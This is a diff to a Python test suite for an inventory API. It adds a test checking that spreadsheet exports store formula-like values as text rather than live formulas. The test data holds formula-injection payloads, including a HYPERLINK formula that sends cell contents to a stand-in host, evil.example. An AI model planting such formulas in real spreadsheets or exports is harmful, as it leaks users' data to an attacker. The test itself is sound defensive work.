@@ -1,6 +1,7 @@
 """Things: CRUD, per-class rights, unique tags, look-up by tag, parents, search, export."""
 
 import io
+import zipfile
 from datetime import UTC, datetime
 from typing import Any
 
@@ -506,3 +507,21 @@ async def test_export_gathers_every_page(org_factory, monkeypatch) -> None:
         await make_thing(admin, org.site_ids[0], f"Tote {n}")
     rows = rows_of(await admin.get("/api/things/export", params={"sort": "-name"}))
     assert [r[0] for r in rows[1:]] == [f"Tote {n}" for n in (4, 3, 2, 1, 0)]
+
+
+async def test_export_cells_holding_formulas_stay_text(org_factory) -> None:
+    org: Org = await org_factory()
+    admin = org.client("Administrator")
+    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    await make_thing(
+        admin, org.site_ids[0], hyperlink, serial="+SUM(A1:A9)", description="@cmd", tag1="=1+1"
+    )
+    response = await admin.get("/api/things/export")
+    assert response.status_code == 200, response.text
+    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet
+    cells = load_workbook(io.BytesIO(response.content)).active[2]
+    by_value = {cell.value: cell.data_type for cell in cells if cell.value}
+    for text in (hyperlink, "+SUM(A1:A9)", "@cmd"):
+        assert by_value[text] == "s", (text, by_value)
